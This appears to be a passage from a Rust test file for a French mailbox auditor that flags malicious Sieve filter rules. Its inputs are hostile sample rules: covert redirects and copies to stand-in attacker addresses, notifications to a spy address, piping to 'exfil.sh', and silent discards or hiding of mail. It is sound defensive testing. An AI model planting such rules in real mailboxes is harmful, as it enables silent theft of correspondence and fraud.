//! Analysis of Sieve scripts through the public entry point: one test per finding id, the
//! French wording of conditions, variables, nesting, and the severity policy; and the English
//! translation of every finding (checked on every finding of every script below).

use proptest::prelude::*;
use vigie_mail::audit::{AuditFinding, FindingText, Severity};
use vigie_mail::sieve::{AuditContext, ScriptSource, analyse_script};

fn ctx() -> AuditContext {
    AuditContext {
        own_addresses: vec!["secretariat@mairie-exemple.fr".to_owned()],
    }
}

/// The findings of `text`, each checked for its English words (see [`assert_english`]).
fn analyse(text: &str, active: bool) -> Vec<AuditFinding> {
    let findings = analyse_script(
        &ScriptSource {
            name: "roundcube",
            active,
            text,
        },
        &ctx(),
    );
    for finding in &findings {
        assert_english(finding);
    }
    findings
}

/// Words that only French text has: the guillemets and the usual words of a French detail.
const FRENCH_MARKERS: &[&str] = &["«", "»", "les messages", " sont ", "dont "];

/// The English words of a finding: present, nothing empty, one step for each French step.
fn english(f: &AuditFinding) -> &FindingText {
    let Some(en) = f.translations.get("en") else {
        panic!("no English for {}: {f:#?}", f.id)
    };
    for (field, text) in [
        ("title", &en.title),
        ("detail", &en.detail),
        ("remediation", &en.remediation),
    ] {
        assert!(!text.trim().is_empty(), "empty English {field} in {f:#?}");
    }
    assert_eq!(
        en.remediation.lines().count(),
        f.remediation.lines().count(),
        "English and French steps differ:\n{}\n---\n{}",
        en.remediation,
        f.remediation
    );
    en
}

/// [`english`], and no French left in the English words (the scripts of these tests hold no
/// French markers themselves).
fn assert_english(f: &AuditFinding) {
    let en = english(f);
    for text in [&en.title, &en.detail, &en.remediation] {
        for marker in FRENCH_MARKERS {
            assert!(
                !text.contains(marker),
                "French « {marker} » in the English words of {}:\n{text}",
                f.id
            );
        }
    }
}

fn ids(findings: &[AuditFinding]) -> Vec<&str> {
    findings.iter().map(|f| f.id.as_str()).collect()
}

/// The only finding of `text` (active script).
fn single(text: &str) -> AuditFinding {
    single_with(text, true)
}

fn single_with(text: &str, active: bool) -> AuditFinding {
    let mut findings = analyse(text, active);
    assert_eq!(
        findings.len(),
        1,
        "expected one finding, got {:#?}",
        findings
    );
    findings.remove(0)
}

fn assert_contains(haystack: &str, needle: &str) {
    assert!(
        haystack.contains(needle),
        "« {needle} » not found in:\n{haystack}"
    );
}

// --- redirect ---------------------------------------------------------------------------------

#[test]
fn redirect_outside_under_condition_is_critical_and_described() {
    let script = "require [\"fileinto\"];\n\n\n\n\n\n\n\n\n\nif header :contains \"from\" \"tresorerie\" {\n    redirect \"pirate@example.net\";\n}\n";
    let f = single(script);
    assert_eq!(f.id, "sieve.redirect");
    assert_eq!(f.severity, Severity::Critical);
    assert!(
        f.detail.starts_with(
            "Le filtre « roundcube » (actif), ligne 12 : les messages dont l'expéditeur contient « tresorerie » sont renvoyés vers pirate@example.net."
        ),
        "{}",
        f.detail
    );
    assert_contains(
        &f.detail,
        "n'appartient pas au domaine de la boîte (mairie-exemple.fr)",
    );
    assert_contains(&f.title, "adresse extérieure");
    assert_eq!(f.evidence["script"], "roundcube");
    assert_eq!(f.evidence["active"], true);
    assert_eq!(f.evidence["line"], 12);
    assert_eq!(f.evidence["action"], "redirect");
    assert_eq!(f.evidence["target"], "pirate@example.net");
    assert_eq!(f.evidence["outside"], true);
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur contient « tresorerie »"
    );
    assert_eq!(f.evidence["condition_tree"][0]["test"], "header");
    assert_eq!(f.evidence["condition_tree"][0]["line"], 11);
}

#[test]
fn remediation_is_step_by_step() {
    let f = single("redirect \"pirate@example.net\";");
    let r = &f.remediation;
    assert!(r.starts_with("1. "), "{r}");
    for needle in [
        "capture d'écran",
        "personne titulaire de la boîte si elle a elle-même créé ce renvoi vers pirate@example.net",
        "« Paramètres › Filtres »",
        "mot de passe",
        "double authentification",
        "Cherchez depuis quand les messages partent vers pirate@example.net",
        "cybermalveillance.gouv.fr",
    ] {
        assert_contains(r, needle);
    }
    // The screenshot comes before the deletion.
    assert!(r.find("capture d'écran") < r.find("supprimez"));
}

#[test]
fn unconditional_redirect_is_all_messages() {
    let f = single("redirect \"pirate@example.net\";");
    assert_contains(
        &f.detail,
        "ligne 1 : tous les messages sont renvoyés vers pirate@example.net.",
    );
    assert_eq!(f.evidence["condition"], "tous les messages");
}

#[test]
fn redirect_copy_is_critical_and_explains_the_copy() {
    let f = single("require [\"copy\"];\nredirect :copy \"pirate@example.net\";");
    assert_eq!(f.id, "sieve.redirect_copy");
    assert_eq!(f.severity, Severity::Critical);
    assert_contains(
        &f.detail,
        "tous les messages sont renvoyés en copie vers pirate@example.net.",
    );
    assert_contains(&f.detail, "la personne titulaire ne remarque rien");
    assert_eq!(f.evidence["copy"], true);
}

#[test]
fn redirect_inside_own_domain_is_medium() {
    let f = single("redirect \"compta@mairie-exemple.fr\";");
    assert_eq!(f.id, "sieve.redirect");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(f.evidence["outside"], false);
    assert_contains(&f.title, "même organisation");
    let f = single("redirect :copy \"agent@services.mairie-exemple.fr\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.redirect_copy", Severity::Medium)
    );
    // Inactive: one level lower but at least medium.
    let f = single_with("redirect \"compta@mairie-exemple.fr\";", false);
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn redirect_in_inactive_script_is_one_level_lower() {
    let f = single_with("redirect \"pirate@example.net\";", false);
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "Le filtre « roundcube » (inactif), ligne 1");
    assert_contains(&f.detail, "peut être réactivé à tout moment");
    let f = single_with("redirect :copy \"pirate@example.net\";", false);
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn public_provider_domain_is_not_inside() {
    let ctx = AuditContext {
        own_addresses: vec!["mairie.exemple@orange.fr".to_owned()],
    };
    let run = |text: &str| {
        analyse_script(
            &ScriptSource {
                name: "s",
                active: true,
                text,
            },
            &ctx,
        )
    };
    assert_eq!(
        run("redirect \"voisin@orange.fr\";")[0].severity,
        Severity::Critical
    );
    assert_eq!(
        run("redirect \"Mairie.Exemple@orange.fr\";")[0].severity,
        Severity::Medium
    );
    // No own address known: everything is outside.
    let none = analyse_script(
        &ScriptSource {
            name: "s",
            active: true,
            text: "redirect \"a@mairie-exemple.fr\";",
        },
        &AuditContext::default(),
    );
    assert_eq!(none[0].severity, Severity::Critical);
}

#[test]
fn string_list_of_targets_is_one_finding_naming_all() {
    let f = single("redirect [\"compta@mairie-exemple.fr\", \"pirate@example.net\"];");
    assert_eq!(f.severity, Severity::Critical);
    assert_contains(
        &f.detail,
        "sont renvoyés vers compta@mairie-exemple.fr et pirate@example.net.",
    );
    assert_eq!(f.evidence["targets"][0]["outside"], false);
    assert_eq!(f.evidence["targets"][1]["outside"], true);
}

// --- nesting, elsif/else, stop -------------------------------------------------------------------

#[test]
fn redirect_three_levels_deep_with_variable_target_is_found() {
    let script = r#"require ["variables", "copy"];
set "user" "collecte";
set "domain" "exemple-pirate.net";
if anyof (header :contains "subject" ["facture", "virement"], address :is "from" ["tresorerie@dgfip.fr", "compta@fournisseur.fr"]) {
    if not size :over 1M {
        if allof (exists "X-Mailer", not header :is "to" "maire@mairie-exemple.fr") {
            redirect :copy "${user}@${domain}";
        }
    }
}
"#;
    let f = single(script);
    assert_eq!(f.id, "sieve.redirect_copy");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["line"], 7);
    assert_eq!(f.evidence["target"], "collecte@exemple-pirate.net");
    assert_eq!(
        f.evidence["condition"],
        "les messages (dont l'objet contient « facture » ou « virement » ou dont l'expéditeur est « tresorerie@dgfip.fr » ou « compta@fournisseur.fr ») et qui ont un en-tête « X-Mailer » et d'au plus 1 Mo et dont le destinataire n'est pas « maire@mairie-exemple.fr »"
    );
    assert_contains(
        &f.detail,
        "sont renvoyés en copie vers collecte@exemple-pirate.net.",
    );
    assert_eq!(
        f.evidence["condition_tree"].as_array().map(Vec::len),
        Some(3)
    );
}

#[test]
fn elsif_and_else_carry_the_negation_of_earlier_branches() {
    let script = r#"if header :contains "subject" "newsletter" {
    fileinto "Lettres";
} elsif size :over 1M {
    redirect "gros@example.net";
} else {
    redirect "reste@example.net";
}
"#;
    let findings = analyse(script, true);
    assert_eq!(ids(&findings), vec!["sieve.redirect", "sieve.redirect"]);
    assert_eq!(
        findings[0].evidence["condition"],
        "les messages de plus de 1 Mo et dont l'objet ne contient pas « newsletter »"
    );
    assert_eq!(findings[0].evidence["line"], 4);
    assert_eq!(
        findings[1].evidence["condition"],
        "tous les messages sauf ceux dont l'objet contient « newsletter » ou de plus de 1 Mo"
    );
    assert_contains(
        &findings[1].detail,
        "ligne 6 : tous les messages sauf ceux dont l'objet contient « newsletter » ou de plus de 1 Mo sont renvoyés vers reste@example.net.",
    );
}

#[test]
fn not_is_rendered_in_french() {
    let f =
        single("if not header :contains \"subject\" \"[interne]\" { redirect \"x@example.net\"; }");
    assert_eq!(
        f.evidence["condition"],
        "tous les messages sauf ceux dont l'objet contient « [interne] »"
    );
    let f = single(
        "if allof(header :contains \"from\" \"banque\", not exists \"List-Id\") { redirect \"x@example.net\"; }",
    );
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur contient « banque » et qui n'ont pas d'en-tête « List-Id »"
    );
}

#[test]
fn envelope_body_and_size_conditions() {
    let f = single(
        "require [\"envelope\", \"body\"];\nif anyof(envelope :is \"from\" \"a@b.fr\", body :contains \"IBAN\", size :under 10K) { discard; }",
    );
    assert_eq!(
        f.evidence["condition"],
        "les messages dont l'expéditeur de l'enveloppe est « a@b.fr » ou dont le corps contient « IBAN » ou de moins de 10 Ko"
    );
}

#[test]
fn rules_after_a_stop_are_narrowed() {
    let script = r#"if address :domain :is "from" "mairie-exemple.fr" { keep; stop; }
redirect "pirate@example.net";
"#;
    let f = single(script);
    assert_eq!(
        f.evidence["condition"],
        "tous les messages sauf ceux dont le domaine de l'expéditeur est « mairie-exemple.fr »"
    );
    assert_eq!(f.evidence["unreachable"], false);
}

#[test]
fn actions_after_an_unconditional_stop_are_flagged_unreachable() {
    let f = single("keep;\nstop;\nredirect \"pirate@example.net\";");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["unreachable"], true);
    assert_contains(&f.detail, "« stop » placée avant");
}

// --- variables ----------------------------------------------------------------------------------

#[test]
fn variables_with_modifiers_and_alternatives() {
    let script = r#"require ["variables"];
set :lower "dest" "PIRATE@EXAMPLE.NET";
redirect "${DEST}";
if header :contains "subject" "a" { set "alt" "a@example.net"; } else { set "alt" "b@example.org"; }
redirect "${alt}";
set :length "n" "abcd";
redirect "x${n}@example.net";
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 3);
    assert_eq!(findings[0].evidence["target"], "pirate@example.net");
    assert_eq!(
        findings[1].evidence["target"],
        "a@example.net ou b@example.org"
    );
    assert_contains(
        &findings[1].detail,
        "sont renvoyés vers a@example.net ou b@example.org.",
    );
    assert_eq!(findings[2].evidence["target"], "x4@example.net");
}

#[test]
fn unknown_variables_are_computed_at_run_time_and_outside() {
    let script = r#"require ["variables"];
if header :matches "subject" "* *" { redirect "${1}@${2}"; }
redirect "${jamais_defini}";
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 2);
    assert_eq!(
        findings[0].evidence["target"],
        "«valeur calculée à l'exécution»@«valeur calculée à l'exécution»"
    );
    assert_eq!(findings[0].severity, Severity::Critical);
    assert_contains(
        &findings[0].detail,
        "n'est connue qu'à la réception du message",
    );
    assert_eq!(
        findings[1].evidence["target"],
        "«valeur calculée à l'exécution»"
    );
    assert_eq!(
        findings[0].evidence["targets"][0]["computed_at_run_time"],
        true
    );
}

#[test]
fn unknown_local_part_at_own_domain_stays_inside() {
    let f = single("require \"variables\";\nredirect \"${x}@mairie-exemple.fr\";");
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn without_the_variables_extension_dollar_braces_are_literal() {
    let f = single("set \"d\" \"a@b.fr\";\nredirect \"${d}\";");
    assert_eq!(f.evidence["target"], "${d}");
}

// --- discard ------------------------------------------------------------------------------------

#[test]
fn discard_is_high_and_medium_when_inactive() {
    let f = single("if header :contains \"from\" \"dgfip\" { discard; }");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.discard", Severity::High)
    );
    assert_contains(
        &f.detail,
        "ligne 1 : les messages dont l'expéditeur contient « dgfip » sont supprimés sans être remis ni placés dans la corbeille.",
    );
    assert_contains(&f.remediation, "renvoyer leurs messages récents");
    let f = single_with("discard;", false);
    assert_eq!(f.severity, Severity::Medium);
}

#[test]
fn discard_of_spam_is_low() {
    let f = single(
        "require \"spamtest\";\nif spamtest :value \"ge\" :comparator \"i;ascii-numeric\" \"6\" { discard; }",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.discard", Severity::Low)
    );
}

// --- fileinto -----------------------------------------------------------------------------------

#[test]
fn fileinto_hidden_folders_is_high() {
    for folder in [
        "Trash",
        "Corbeille",
        "INBOX.Deleted Items",
        "Éléments supprimés",
        ".cache",
        "RSS Feeds",
        "Conversation History",
        "xkqzwrt",
        "Indésirables",
    ] {
        let f = single(&format!(
            "require \"fileinto\";\nif header :contains \"subject\" \"facture\" {{ fileinto \"{folder}\"; }}"
        ));
        assert_eq!(
            (f.id.as_str(), f.severity),
            ("sieve.fileinto_trash", Severity::High),
            "{folder}"
        );
        assert_contains(
            &f.detail,
            &format!(
                "les messages dont l'objet contient « facture » sont déplacés dans le dossier « {folder} »"
            ),
        );
        assert_eq!(f.evidence["target"], folder);
    }
}

#[test]
fn ordinary_folders_raise_nothing() {
    let findings = analyse(
        "require \"fileinto\";\nif header :contains \"from\" \"prefecture\" { fileinto \"Préfecture\"; }\nfileinto \"INBOX.Archives 2023\";",
        true,
    );
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn fileinto_hidden_and_marked_read_is_critical() {
    let script = r#"require ["fileinto", "imap4flags"];
if body :contains ["RIB", "virement"] {
    addflag "\\Seen";
    fileinto "RSS Feeds";
}
"#;
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.fileinto_trash", Severity::Critical)
    );
    assert_contains(
        &f.detail,
        "sont déplacés dans le dossier « RSS Feeds » (un dossier peu visible, que personne ne consulte) et marqués comme lus.",
    );
    assert_contains(&f.detail, "signature d'une prise de contrôle");
    assert_eq!(f.evidence["marked_seen"], true);
    // Same with :flags, and inactive: one level lower.
    let f = single_with(
        "require [\"fileinto\", \"imap4flags\"];\nfileinto :flags \"\\\\Seen\" \"Trash\";",
        false,
    );
    assert_eq!(f.severity, Severity::High);
    // removeflag clears it again.
    let f = single("addflag \"\\\\Seen\";\nremoveflag \"\\\\Seen\";\nfileinto \"Trash\";");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn fileinto_copy_and_special_use() {
    let f = single("require [\"fileinto\", \"copy\"];\nfileinto :copy \"Trash\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.fileinto_trash", Severity::Low)
    );
    assert_contains(&f.detail, "sont copiés dans le dossier « Trash »");
    let f = single(
        "require [\"fileinto\", \"special-use\"];\nfileinto :specialuse \"\\\\Junk\" \"Boite\";",
    );
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.evidence["folder_kind"], "junk");
}

#[test]
fn benign_spam_script_raises_nothing_above_low() {
    let script = r#"require ["fileinto", "spamtest", "relational", "comparator-i;ascii-numeric"];
# rule:[Spam]
if header :contains "X-Spam-Flag" "YES" {
    fileinto "Junk";
    stop;
}
if anyof (header :contains "X-Spam-Status" "Yes", header :matches "X-Spam-Level" "*****") {
    fileinto "INBOX.Spam";
}
if spamtest :value "ge" :comparator "i;ascii-numeric" "8" {
    fileinto "Indésirables";
}
if header :contains "subject" "***SPAM***" { fileinto "Trash"; }
"#;
    let findings = analyse(script, true);
    assert_eq!(findings.len(), 4, "{findings:#?}");
    assert!(
        findings.iter().all(|f| f.severity <= Severity::Low),
        "{findings:#?}"
    );
    assert_eq!(findings[0].severity, Severity::Info);
    assert_contains(&findings[0].title, "anti-spam");
    assert_eq!(findings[3].severity, Severity::Low);
}

#[test]
fn spam_looking_conditions_that_catch_ordinary_mail_are_not_benign() {
    for condition in [
        "not header :contains \"X-Spam-Flag\" \"YES\"",
        "header :is \"X-Spam-Flag\" \"NO\"",
        "header :matches \"X-Spam-Flag\" \"*\"",
        "anyof(header :contains \"X-Spam-Flag\" \"YES\", header :contains \"from\" \"banque\")",
        "spamtest :value \"lt\" \"3\"",
        "exists \"X-Spam-Flag\"",
    ] {
        let f = single(&format!("if {condition} {{ fileinto \"Junk\"; }}"));
        assert_eq!(f.severity, Severity::High, "{condition}");
    }
    // An obscure folder is never benign.
    let f = single("if header :contains \"X-Spam-Flag\" \"YES\" { fileinto \".x\"; }");
    assert_eq!(f.severity, Severity::High);
}

// --- vacation, notify, external programs, include -----------------------------------------------------

#[test]
fn vacation_is_medium_active_and_low_inactive() {
    let script = "require \"vacation\";\nvacation :days 7 :subject \"Absence\" :addresses [\"secretariat@mairie-exemple.fr\", \"maire@mairie-exemple.fr\"] \"Je suis absente jusqu'au 3 mars.\";";
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.vacation", Severity::Medium)
    );
    assert_contains(
        &f.detail,
        "tous les messages reçoivent une réponse automatique (objet « Absence » ; au plus une réponse tous les 7 jours par expéditeur ; adresses déclarées : « secretariat@mairie-exemple.fr », « maire@mairie-exemple.fr » ; texte : « Je suis absente jusqu'au 3 mars. »).",
    );
    assert_eq!(f.evidence["subject"], "Absence");
    assert_eq!(f.evidence["period"], "7 jours");
    assert_eq!(single_with(script, false).severity, Severity::Low);
}

#[test]
fn vacation_mentioning_bank_details_is_high() {
    let script = "vacation :subject \"Changement\" text:\nBonjour,\nVeuillez noter nos nouvelles coordonnées bancaires.\n.\n;";
    let f = single(script);
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "fraude au changement de RIB");
    assert_eq!(f.evidence["bank_details"], true);
    assert_eq!(single_with(script, false).severity, Severity::Medium);
}

#[test]
fn notify_outside_is_high_and_inside_is_silent() {
    let f = single(
        "require \"enotify\";\nif header :contains \"from\" \"banque\" { notify :message \"Nouveau\" \"mailto:espion@example.net?subject=x\"; }",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.notify", Severity::High)
    );
    assert_contains(
        &f.detail,
        "les messages dont l'expéditeur contient « banque » déclenchent une notification envoyée à espion@example.net (message : « Nouveau »).",
    );
    assert_eq!(f.evidence["recipients"][0], "espion@example.net");
    assert!(analyse("notify \"mailto:secretariat%40mairie-exemple.fr\";", true).is_empty());
    let f = single("notify \"xmpp:espion@jabber.example\";");
    assert_eq!(f.severity, Severity::High);
    // Old draft syntax.
    let f = single("notify :method \"mailto\" :options \"espion@example.net\";");
    assert_eq!(f.evidence["recipients"][0], "espion@example.net");
    assert_eq!(
        single_with("notify \"mailto:espion@example.net\";", false).severity,
        Severity::Medium
    );
}

#[test]
fn external_programs_are_critical() {
    for (command, verb) in [
        ("pipe", "sont transmis au programme externe « exfil.sh »"),
        (
            "filter",
            "sont modifiés par le programme externe « exfil.sh »",
        ),
        (
            "execute",
            "déclenchent l'exécution du programme externe « exfil.sh »",
        ),
    ] {
        let script =
            format!("require \"vnd.dovecot.{command}\";\n{command} \"exfil.sh\" [\"-q\"];");
        let f = single(&script);
        assert_eq!(
            (f.id.as_str(), f.severity),
            ("sieve.extprogram", Severity::Critical),
            "{command}"
        );
        assert_contains(&f.detail, &format!("{verb} (arguments : « -q »)"));
        assert_contains(&f.remediation, "hébergeur");
        assert_eq!(single_with(&script, false).severity, Severity::High);
    }
}

#[test]
fn include_is_mentioned() {
    let f = single("require \"include\";\ninclude :personal \"transferts\";");
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.include", Severity::Low)
    );
    assert_contains(&f.detail, "script personnel « transferts »");
    assert_eq!(f.evidence["included_script"], "transferts");
}

// --- Roundcube ----------------------------------------------------------------------------------

#[test]
fn roundcube_managesieve_script() {
    // As written by Roundcube's managesieve plugin.
    let script = "require [\"fileinto\",\"copy\"];\r\n# rule:[Factures]\r\nif header :contains \"subject\" \"facture\"\r\n{\r\n\tfileinto \"INBOX.Factures\";\r\n}\r\n# rule:[transfert]\r\nif anyof (header :contains \"from\" \"tresorerie\", header :contains \"subject\" \"virement\")\r\n{\r\n\tredirect :copy \"compta.mairie@gmail.com\";\r\n}\r\n";
    let f = single(script);
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.redirect_copy", Severity::Critical)
    );
    assert_eq!(f.evidence["line"], 10);
    assert_eq!(f.evidence["rule"], "transfert");
    assert_contains(
        &f.detail,
        "ligne 10 : les messages dont l'expéditeur contient « tresorerie » ou dont l'objet contient « virement » sont renvoyés en copie vers compta.mairie@gmail.com.",
    );
    assert_contains(
        &f.detail,
        "Nom de la règle dans le webmail : « transfert ».",
    );
}

#[test]
fn roundcube_disabled_rule_keeps_its_condition_and_is_lowered() {
    let script = "require [\"fileinto\"];\n# rule:[pause]\nif false # header :contains \"from\" \"tresorerie\"\n{\n\tredirect \"pirate@example.net\";\n}\n";
    let f = single(script);
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.evidence["disabled_rule"], true);
    assert_contains(
        &f.detail,
        "ligne 5 : les messages dont l'expéditeur contient « tresorerie » sont renvoyés vers pirate@example.net.",
    );
    assert_contains(&f.detail, "mise en pause");
    // A bare `if false` is switched off too.
    let f = single("if false { redirect \"pirate@example.net\"; }");
    assert_eq!(f.severity, Severity::High);
    assert_contains(&f.detail, "tous les messages sont renvoyés");
}

// --- parse errors and limits --------------------------------------------------------------------------

#[test]
fn parse_error_is_a_medium_finding_with_line_and_reason() {
    let f = single(
        "require \"fileinto\";\nif header :contains \"subject\" \"x\" {\n  fileinto \"Trash\"\n}\n",
    );
    assert_eq!(
        (f.id.as_str(), f.severity),
        ("sieve.parse_error", Severity::Medium)
    );
    assert_contains(
        &f.detail,
        "Le filtre « roundcube » (actif), ligne 4, colonne 1 : le script ne peut pas être lu (« } » inattendu alors que « ; » ou « { » était attendu).",
    );
    assert_eq!(f.evidence["line"], 4);
    assert_eq!(f.evidence["column"], 1);
    assert_contains(&f.remediation, "ligne 4");
    let f = single_with("redirect \"x@y.fr\" ;; \u{0}", false);
    assert_eq!(f.id, "sieve.parse_error");
    assert_contains(&f.detail, "(inactif)");
}

#[test]
fn hostile_scripts_give_parse_errors_not_crashes() {
    let deep = format!(
        "{}redirect \"a@b.fr\";{}",
        "if true {".repeat(50_000),
        "}".repeat(50_000)
    );
    let f = single(&deep);
    assert_eq!(f.id, "sieve.parse_error");
    assert_contains(&f.detail, "imbrication trop profonde");
    let big = "#".repeat(2 << 20);
    let f = single(&big);
    assert_contains(&f.detail, "taille maximale");
}

#[test]
fn too_many_findings_keep_the_most_serious() {
    let mut script = String::from("require [\"fileinto\"];\n");
    for _ in 0..300 {
        script.push_str("fileinto :copy \"Trash\";\n");
    }
    script.push_str("redirect \"pirate@example.net\";\n");
    let findings = analyse(&script, true);
    assert_eq!(findings.len(), 201);
    assert_eq!(findings[199].id, "sieve.redirect");
    assert_eq!(findings[200].id, "sieve.truncated");
    assert_contains(&findings[200].detail, "301 actions");
}

#[test]
fn long_elsif_chains_stay_fast_and_bounded() {
    let mut script = String::from("if false { keep; }");
    for i in 0..20_000 {
        script.push_str(&format!(" elsif header :is \"x\" \"{i}\" {{ discard; }}"));
    }
    script.push_str(" else { redirect \"pirate@example.net\"; }");
    let start = std::time::Instant::now();
    let findings = analyse(&script, true);
    assert!(start.elapsed().as_secs() < 20);
    assert_eq!(
        findings.last().map(|f| f.id.as_str()),
        Some("sieve.truncated")
    );
    let redirect = findings
        .iter()
        .find(|f| f.id == "sieve.redirect")
        .unwrap_or_else(|| panic!("no redirect"));
    assert!(
        redirect.detail.chars().count() < 4000,
        "{}",
        redirect.detail.len()
    );
    let en = english(redirect);
    assert!(en.detail.chars().count() < 4000, "{}", en.detail.len());
    assert!(en.detail.contains("… ("), "{}", en.detail);
}

#[test]
fn foreverypart_blocks_are_walked() {
    let f = single(
        "require [\"foreverypart\", \"mime\"];\nforeverypart { if header :mime :contains \"Content-Type\" \"pdf\" { redirect \"pdf@example.net\"; } }",
    );
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence["line"], 2);
}

#[test]
fn findings_come_in_script_order() {
    let findings = analyse(
        "discard;\nredirect \"a@example.net\";\nvacation \"absent\";",
        true,
    );
    assert_eq!(
        ids(&findings),
        vec!["sieve.discard", "sieve.redirect", "sieve.vacation"]
    );
}

/// `head`, then `unit` repeated, then `tail`, just under the 1 MiB limit.
fn fill(head: &str, unit: &str, tail: &str) -> String {
    let mut text = head.to_owned();
    while text.len() + unit.len() + tail.len() < 1 << 20 {
        text.push_str(unit);
    }
    text.push_str(tail);
    text
}

#[test]
fn hostile_scripts_are_analysed_in_bounded_time_and_size() {
    let mut many_variables = String::from("require \"variables\";");
    for i in 0..300 {
        many_variables.push_str(&format!("set \"v{i}\" \"x{i}\";"));
    }
    let cases = [
        ("redirects", fill("", "redirect \"a@b.fr\";\n", "")),
        (
            "doubling",
            fill(
                "require \"variables\";set \"a\" \"xy\";",
                "set \"a\" \"${a}${a}\";",
                "redirect \"${a}\";",
            ),
        ),
        (
            "variables then branches",
            fill(
                &many_variables,
                "if true { set \"v1\" \"y\"; }",
                "redirect \"${v1}\";",
            ),
        ),
        (
            "references",
            fill(
                "require \"variables\";set \"e\" \"\";redirect \"",
                "${e}",
                "\";",
            ),
        ),
        (
            "wide anyof",
            fill(
                "if anyof(",
                "exists \"x\",",
                "true) { redirect \"a@b.fr\"; }",
            ),
        ),
        (
            "disabled rules",
            fill(
                "",
                "if false # header :contains \"from\" \"x\"\n{ redirect \"a@b.fr\"; }\n",
                "",
            ),
        ),
        (
            "alternatives",
            fill(
                "require \"variables\";",
                "if header \"a\" \"b\" { set \"d\" \"a@b.fr\"; } else { set \"d\" \"c@d.fr\"; } redirect \"${d}\";",
                "",
            ),
        ),
    ];
    for (name, text) in cases {
        let start = std::time::Instant::now();
        let findings = analyse(&text, true);
        let elapsed = start.elapsed();
        assert!(elapsed.as_secs() < 30, "{name}: {elapsed:?}");
        let size: usize = findings
            .iter()
            .map(|f| {
                let en = english(f);
                f.detail.len()
                    + f.remediation.len()
                    + f.evidence.to_string().len()
                    + en.detail.len()
                    + en.remediation.len()
            })
            .sum();
        assert!(size < 4 << 20, "{name}: {size} bytes of findings");
        assert!(findings.iter().any(|f| f.id == "sieve.redirect"), "{name}");
    }
}

#[test]
fn variable_tracking_gives_up_on_hostile_scripts_towards_outside() {
    let mut script = String::from("require \"variables\";");
    for i in 0..300 {
        script.push_str(&format!("set \"v{i}\" \"x{i}\";"));
    }
    script.push_str("set \"dest\" \"compta@mairie-exemple.fr\";");
    for _ in 0..5000 {
        script.push_str("if true { keep; }");
    }
    script.push_str("redirect \"${dest}\";");
    let f = single(&script);
    // Too much bookkeeping: the target is no longer known, so it counts as outside.
    assert_eq!(f.evidence["target"], "«valeur calculée à l'exécution»");
    assert_eq!(f.severity, Severity::Critical);
}

// --- English ------------------------------------------------------------------------------------

#[test]
fn english_redirect_three_levels_deep_names_script_line_condition_and_target() {
    let script = r#"require ["variables", "copy"];
set "user" "collecte";
set "domain" "exemple-pirate.net";
if anyof (header :contains "subject" ["facture", "virement"], address :is "from" ["tresorerie@dgfip.fr", "compta@fournisseur.fr"]) {
    if not size :over 1M {
        if allof (exists "X-Mailer", not header :is "to" "maire@mairie-exemple.fr") {
            redirect :copy "${user}@${domain}";
        }
    }
}
"#;
    let f = single(script);
    let en = english(&f);
    assert_eq!(
        en.title,
        "Hidden copy of every message sent to an outside address"
    );
    assert!(
        en.detail.starts_with(
            "The filter “roundcube” (active), line 7: messages (whose subject contains “facture” or “virement” or whose sender is “tresorerie@dgfip.fr” or “compta@fournisseur.fr”) and that have a “X-Mailer” header and no larger than 1 MB and whose recipient is not “maire@mairie-exemple.fr” are copied and forwarded to collecte@exemple-pirate.net."
        ),
        "{}",
        en.detail
    );
    assert_contains(
        &en.detail,
        "With “:copy”, every message also stays in the mailbox",
    );
    assert_contains(
        &en.detail,
        "does not belong to the mailbox's domain (mairie-exemple.fr)",
    );
    assert_contains(
        &en.remediation,
        "this forwarding to collecte@exemple-pirate.net",
    );
    assert_contains(&en.remediation, "(line 7)");
    // The evidence stays French: it is the JSON contract.
    assert!(
        f.evidence["condition"]
            .as_str()
            .is_some_and(|c| c.starts_with("les messages"))
    );
}

#[test]
fn english_redirect_outside_title_detail_and_steps() {
    let script =
        "if header :contains \"from\" \"tresorerie\" {\n    redirect \"pirate@example.net\";\n}\n";
    let f = single(script);
    let en = english(&f);
    assert_eq!(
        en.title,
        "Messages automatically forwarded to an outside address"
    );
    assert!(
        en.detail.starts_with(
            "The filter “roundcube” (active), line 2: messages whose sender contains “tresorerie” are forwarded to pirate@example.net."
        ),
        "{}",
        en.detail
    );
    let r = &en.remediation;
    assert!(
        r.starts_with("1. Before changing anything, take a screenshot"),
        "{r}"
    );
    for needle in [
        "Ask the owner of the mailbox whether they created this forwarding to pirate@example.net themselves.",
        "“Settings › Filters”",
        "password",
        "two-factor authentication",
        "since when messages have been going to pirate@example.net",
        "cybermalveillance.gouv.fr",
    ] {
        assert_contains(r, needle);
    }
    // Same facts, same order of steps as the French.
    assert_eq!(r.lines().count(), 7);
    let f = single("redirect \"compta@mairie-exemple.fr\";");
    assert_eq!(
        english(&f).title,
        "Messages automatically forwarded to another address of the same organisation"
    );
    assert_contains(
        &english(&f).detail,
        "line 1: all messages are forwarded to compta@mairie-exemple.fr.",
    );
}

#[test]
